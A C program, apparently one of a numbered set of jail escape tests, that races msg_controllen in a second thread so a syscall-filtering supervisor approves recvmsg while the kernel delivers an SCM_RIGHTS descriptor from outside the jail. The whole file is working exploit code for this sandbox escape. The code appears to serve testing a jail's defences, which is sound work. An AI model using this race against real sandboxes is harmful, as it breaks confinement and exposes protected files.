/* e0612-scm-rights-race - receive a descriptor from outside the jail by
 * racing the receiver's own check.
 *
 * Attack: as in e0608, a server outside the jail, listening in the jail's
 * tree, hands a descriptor of the secret to every client.  The program
 * asks for no control data (msg_controllen 0) while another thread sets
 * msg_controllen to its buffer's size and back, again and again: a
 * supervisor that reads the msghdr to refuse control data (janus on a
 * kernel without SO_PASSRIGHTS, before Linux 6.16) may see 0 where the
 * kernel then reads the size, and installs the descriptor.  A refused
 * recvmsg leaves the message queued and is tried again; one that took the
 * byte without the descriptor connects again.  The first line says
 * whether this kernel has SO_PASSRIGHTS, which janus's two ways of
 * keeping descriptors out depend on (fdpass.h).
 * Source: Watson 2007, "Exploiting Concurrency Vulnerabilities in System
 * Call Wrappers" (a wrapper checks memory the kernel reads again), applied
 * to the fd passing the review in jail-syscall-review.txt asks to stop.
 * Usage: e0612-scm-rights-race SERVER-SOCKET */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "escape.h"

#ifndef SO_PASSRIGHTS
#define SO_PASSRIGHTS 83
#endif

static struct msghdr msg;
static union {
	char buf[CMSG_SPACE(sizeof(int) * 4)];
	struct cmsghdr align;
} control;
static volatile int stop;

static void *flipper(void *arg)
{
	volatile size_t *len = &msg.msg_controllen;
	(void)arg;
	while (!stop) {
		*len = sizeof control.buf;
		*len = 0;
	}
	return NULL;
}

static bool kernel_has_passrights(void)
{
	int sv[2], on = 0;
	socklen_t len = sizeof on;
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
		return false;
	bool has = getsockopt(sv[0], SOL_SOCKET, SO_PASSRIGHTS, &on, &len) == 0;
	close(sv[0]);
	close(sv[1]);
	return has;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0612-scm-rights-race SERVER-SOCKET");
	printf("SO_PASSRIGHTS: %s\n", kernel_has_passrights() ? "yes" : "no");
	struct sockaddr_un sa;
	socklen_t salen = esc_unix_addr(&sa, argv[1]);
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long conns = 0, refused = 0, empty = 0;
	int s = -1;
	bool got = false;
	char byte;
	struct iovec iov = { &byte, 1 };
	esc_race_init(&r);
	while (!got && esc_race_go(&r)) {
		if (s < 0) {
			s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
			if (s < 0 || connect(s, (struct sockaddr *)&sa, salen) < 0) {
				esc_show_result("connect to the server", -1);
				break;
			}
			conns++;
		}
		memset(&control, 0, sizeof control);
		msg.msg_iov = &iov;
		msg.msg_iovlen = 1;
		msg.msg_control = control.buf;
		long n = recvmsg(s, &msg, MSG_CMSG_CLOEXEC);
		if (n < 0 && errno == EPERM) {
			refused++;	/* the message is still queued */
			continue;
		}
		struct cmsghdr *cm = &control.align;
		if (n > 0 && cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_RIGHTS) {
			int fd;
			memcpy(&fd, CMSG_DATA(cm), sizeof fd);
			esc_show_fd("the received descriptor", fd);
			got = true;
		} else {
			empty++;
		}
		close(s);
		s = -1;
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("recvmsg race: %ld tries, %ld connections, %ld refused, %ld without a descriptor%s\n",
	       r.tries, conns, refused, empty, got ? ", one with" : "");
	return 0;
}
